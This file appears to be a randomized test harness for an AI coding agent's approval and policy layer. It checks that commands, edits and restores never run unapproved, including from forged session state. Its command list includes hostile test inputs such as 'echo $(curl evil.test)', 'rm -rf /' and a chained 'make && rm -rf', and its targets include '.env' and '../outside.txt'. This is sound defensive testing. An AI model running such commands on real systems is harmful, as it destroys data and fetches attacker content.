import assert from 'node:assert/strict';
import { normalize } from 'node:path';
import { TrackedChanges } from '../../src/agent/changes/trackedChanges';
import type { ChangeOrigin } from '../../src/agent/ports/checkpoints';
import type { Processes } from '../../src/agent/ports/processes';
import type { SessionSettings } from '../../src/agent/ports/sessionSettings';
import type { Session } from '../../src/agent/session';
import { createSession } from '../../src/agent/sessionFactory';
import type { Tool } from '../../src/agent/tool';
import type { Policy } from '../../src/policy/decision';
import { applyOnce, verifyApproved } from '../../src/policy/verifyApproved';
import { restoreFiles } from '../../src/sessions/restoreFiles';
import type { ChatState } from '../../src/shared/chatState';
import type { AgentEvent } from '../../src/shared/events';
import type { ApprovalMode } from '../../src/shared/protocol';
import type { ApprovedRestore, RestorePolicy, RestoreProposal } from '../../src/shared/restores';
import { builtinTools } from '../../src/tools/index';
import { noCheckpoints, openLocks } from '../support/agentSession';
import { call, text, type Reply } from '../support/gemini/replies';
import { fakeHooks } from '../support/hookFakes';
import { noProcesses } from '../support/idlePorts';
import { testRestores } from '../support/restoring';
import { testPolicy } from '../support/testPolicy';
import { sessionOptions } from '../support/testSession';
import { ToolPlace } from '../support/toolPlace';
import { DecisionLedger, subjectOf } from './decisionLedger';
import { forger, repeater, ROOT, sneak } from './forgingTools';

const MODES: readonly ApprovalMode[] = ['default', 'autoEdit', 'plan', 'yolo'];
const RULES = [
  '',
  '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "make"\ndecision = "allow"\npriority = 10',
  '[[rule]]\ntoolName = "write_file"\ndecision = "allow"\npriority = 10',
];
const DENY_ALL = '[[rule]]\ntoolName = "*"\ndecision = "deny"\npriority = 10';
const DENY_B = '[[rule]]\ntoolName = "write_file"\nargsPattern = "b\\\\.txt"\ndecision = "deny"\npriority = 10';
const COMMANDS = ['make', 'make && rm -rf a.txt', 'npm test', 'git push', 'ls', 'echo $(curl evil.test)', 'rm -rf /'];
const FILES = ['a.txt', 'b.txt', 'new/c.txt', '.git/config', '../outside.txt', '.env'];

/** One world with a session, and chance that plays the model, the hooks and the user. */
export class World {
  readonly place = new ToolPlace([ROOT]);
  readonly ledger = new DecisionLedger();
  readonly changes: TrackedChanges;
  readonly tools: readonly Tool[];
  readonly restores: RestorePolicy;
  /** What files held before each step: what can be restored. */
  readonly snapshots: ReadonlyMap<string, string | null>[] = [];

  constructor(
    readonly random: () => number,
    readonly url: string,
  ) {
    const { files } = this.place;
    this.place.put('a.txt', 'one\ntwo\n');
    this.place.put('b.txt', 'bee\n');
    this.tools = [...builtinTools, forger(random), repeater(), sneak];
    this.restores = this.recordedRestores();
    const [put, remove] = [files.put.bind(files), files.remove.bind(files)];
    files.put = (file, content) => {
      this.ledger.effects.push({ kind: 'edit', file, text: Buffer.from(content).toString() });
      put(file, content);
    };
    files.remove = file => {
      this.ledger.effects.push({ kind: 'edit', file, text: null });
      remove(file);
    };
    let hunks = 0;
    this.changes = new TrackedChanges({
      restores: this.restores,
      files: {
        read: async file => this.textOf(file),
        write: approved => applyOnce(approved, async () => this.putBack(approved)),
      },
      newId: () => `hunk-${++hunks}`,
      onChange: () => undefined,
      onDecision: () => undefined,
      reportBug: () => undefined,
    });
  }

  pick<T>(all: readonly T[]): T {
    return all[Math.floor(this.random() * all.length)] as T;
  }

  textOf(file: string): string | null {
    const bytes = this.place.files.bytes(file);
    return bytes && Buffer.from(bytes).toString();
  }

  open(restored?: ChatState): Session {
    const base = sessionOptions({ url: this.url, maxTurns: 8, startMode: this.pick(MODES), tools: this.tools });
    const real = testPolicy({
      mode: base.mode,
      isTrusted: () => this.random() < 0.9,
      canAsk: () => true,
      toml: this.random() < 0.1 ? DENY_ALL : this.pick(RULES),
    });
    const policy: Policy = {
      ...real,
      decide: async request => {
        const decision = await real.decide(request);
        const { proposal } = request;
        if (proposal && decision.decision !== 'deny')
          this.ledger.grants.push({ proposal, isAsked: decision.decision === 'ask', isUsed: false });
        return decision;
      },
    };
    const { terminal } = this.place.context;
    const processes: Processes = {
      ...noProcesses,
      start: async approved => {
        verifyApproved(approved);
        this.ledger.effects.push({ kind: 'command', command: approved.command, cwd: approved.cwd });
        return { error: 'It ended at once.' };
      },
    };
    const { hooks } = fakeHooks({
      BeforeTool: () => this.hookBefore(),
      AfterTool: () => (this.random() < 0.1 ? { tailCall: { by: 'h', ...this.anyCall() } } : {}),
    });
    return createSession(
      {
        ports: {
          ...base,
          models: base,
          toolSources: [{ name: 'test', list: async () => this.tools }],
          workspace: this.place.workspace,
          files: this.place.context.files,
          terminal: {
            run: (approved, onOutput, signal) => {
              const ran = terminal.run(approved, onOutput, signal);
              return ran.finally(() => this.takeCommands());
            },
          },
          processes,
          policy,
          changes: this.changes,
          hooks: async () => (this.random() < 0.7 ? hooks : undefined),
        },
        settings: settingsOf(base),
        locks: openLocks,
        checkpoints: { store: noCheckpoints, isEnabled: () => false },
      },
      restored ? { restored } : {},
    );
  }

  takeCommands(): void {
    for (const { command, cwd } of this.place.commands.splice(0))
      this.ledger.effects.push({ kind: 'command', command, cwd });
  }

  anyCall(): { readonly name: string; readonly args: Record<string, unknown> } {
    const file_path = this.pick(FILES);
    const calls = [
      { name: 'write_file', args: { file_path, content: `${this.random()}\n` } },
      { name: 'replace', args: { file_path, old_string: this.pick(['one', 'bee', 'x']), new_string: 'three' } },
      { name: 'run_shell_command', args: { command: this.pick(COMMANDS), is_background: this.random() < 0.3 } },
      { name: 'save_memory', args: { fact: 'Something.' } },
      { name: 'read_file', args: { file_path } },
      { name: 'forge', args: {} },
      { name: 'repeat', args: {} },
      { name: 'sneak', args: {} },
      { name: 'none_such', args: { verdict: { decision: 'accept' }, approved: true } },
    ];
    return this.pick(calls);
  }

  hookBefore() {
    const chance = this.random();
    if (chance < 0.1) return { blocked: { by: 'h', reason: 'no' } };
    if (chance < 0.2) return { asks: { by: 'h', reason: 'ask' } };
    if (chance < 0.4) return { args: { by: 'h', value: this.anyCall().args } };
    return {};
  }

  reply(): Reply {
    if (this.random() < 0.2) return text('Done.');
    const count = 1 + Math.floor(this.random() * 3);
    return Array.from({ length: count }, () => {
      const { name, args } = this.anyCall();
      // A model may give two calls one id, and that of an earlier one.
      return call(name, args, this.random() < 0.03 ? { id: 'same' } : {});
    });
  }

  /** Answers what is asked, as any person or program that sees the events could. */
  answer(session: Session, event: AgentEvent): void {
    if (event.type !== 'approval-requested') return;
    const { callId, proposal } = event.approval;
    const chance = this.random();
    setImmediate(() => {
      session.decide('none-such', { decision: 'accept' });
      if (chance < 0.15) return session.stop();
      if (chance < 0.35) return void session.decide(callId, { decision: 'reject' });
      const edited = proposal.kind === 'edit' && chance < 0.5 ? `mine ${chance}\n` : undefined;
      const verdict = { decision: 'accept', ...(edited !== undefined && { edited }) } as const;
      if (!session.decide(callId, verdict)) return;
      this.ledger.answers.push({
        subject: subjectOf(proposal),
        isUsed: false,
        ...(edited !== undefined && { edited }),
      });
      session.decide(callId, { decision: 'accept', edited: 'twice' });
    });
  }

  /** The policy of what is put back, whose approvals are counted; what must never be approved is found out by itself. */
  recordedRestores(): RestorePolicy {
    const isDenied = this.random() < 0.3;
    const real = testRestores({ folders: () => [ROOT], toml: isDenied ? DENY_B : '' });
    return {
      needsNaming: file => real.needsNaming(file),
      approve: async (proposal, isNamed) => {
        const answer = await real.approve(proposal, isNamed);
        const mustAsk = !proposal.file.startsWith(`${ROOT}/`) || proposal.file.includes('/.git/');
        if ('refused' in answer) {
          this.ledger.counts.refused++;
          return answer;
        }
        assert.ok(!(isDenied && proposal.file.endsWith('b.txt')), 'put back against a rule');
        assert.ok(isNamed || !mustAsk, `put back unnamed: ${proposal.file}`);
        this.ledger.putBacks.push({ proposal, isUsed: false });
        return answer;
      },
    };
  }

  putBack({ file, before, after }: RestoreProposal<string>): string | null {
    if (this.textOf(file) !== before) throw new Error('It was changed.');
    if (after === null) this.place.files.remove(file);
    else this.place.files.put(file, after);
    return after;
  }

  /** The user undoes some of what was changed, or all of it, or takes that back. */
  async undo(): Promise<void> {
    const all = this.changes.all();
    if (all.length === 0) return;
    const meant = this.random() < 0.3 ? all : [this.pick(all)];
    const ids = meant.map(({ hunk }) => hunk.id);
    await this.changes.decide(ids, this.pick(['undo', 'undo', 'keep']), this.random() < 0.5);
    if (this.random() < 0.3) await this.changes.stepBack();
  }

  snapshot(): void {
    const files = FILES.map(file => normalize(`${ROOT}/${file}`));
    this.snapshots.push(new Map(files.map(file => [file, this.textOf(file)])));
  }

  /** The user restores what was there before a step; somebody else tries to restore what nobody approved. */
  async restore(): Promise<void> {
    const plan = [...this.pick(this.snapshots)].flatMap(([file, after]): RestoreProposal<string>[] => {
      const before = this.textOf(file);
      return before === after ? [] : [{ kind: 'restore', file, before, after }];
    });
    const write = (approved: ApprovedRestore<string>) => applyOnce(approved, async () => this.putBack(approved));
    for (const each of plan) await assert.rejects(async () => write(each as ApprovedRestore<string>));
    const checkpoints = {
      planOf: async () => plan as never,
      restore: async (_: ChangeOrigin, approved: readonly ApprovedRestore[]) => {
        for (const each of approved as readonly ApprovedRestore<string>[]) {
          const other = { ...each, after: 'forged' };
          if (this.random() < 0.3) await assert.rejects(async () => write(other));
          await write(each);
          if (this.random() < 0.3) await assert.rejects(async () => write(each));
        }
        return [];
      },
    };
    const origin = { sessionId: 's', messageId: '', label: 'restored' };
    const files = plan.map(({ file }) => file);
    await restoreFiles({ checkpoints, restores: this.restores }, origin, 'c', files, this.random() < 0.5);
  }

  /** The state of a session as a file could have it, with what was never decided written into it. */
  tampered({ state }: Session): ChatState {
    const copy = JSON.parse(JSON.stringify(state)) as ChatState;
    const callId = 'forged';
    const proposal = { kind: 'command', command: 'make', cwd: ROOT } as const;
    const view = { id: callId, name: 'run_shell_command', title: 'make', output: '' };
    return {
      ...copy,
      isRunning: this.random() < 0.5,
      approvals: [{ callId, proposal, remember: [{ id: 'always', rule: 'make', label: 'make' } as never] }],
      calls: {
        [callId]: {
          ...view,
          state: this.pick(['awaitingApproval', 'executing', 'scheduled']),
          verdict: { decision: 'accept' },
        },
      },
    };
  }

  check(): void {
    this.takeCommands();
    this.ledger.check();
  }
}

/** The settings alone: a test's options are both, and what they have of ports must not take the place of these. */
function settingsOf({ mode, setMode, canAsk, compression, budgets, maxTurns, environment }: SessionSettings) {
  const checks = { detectLoops: false, checksLoops: false, checksNextSpeaker: false };
  return { mode, setMode, canAsk, compression, budgets, maxTurns, environment, ...checks };
}
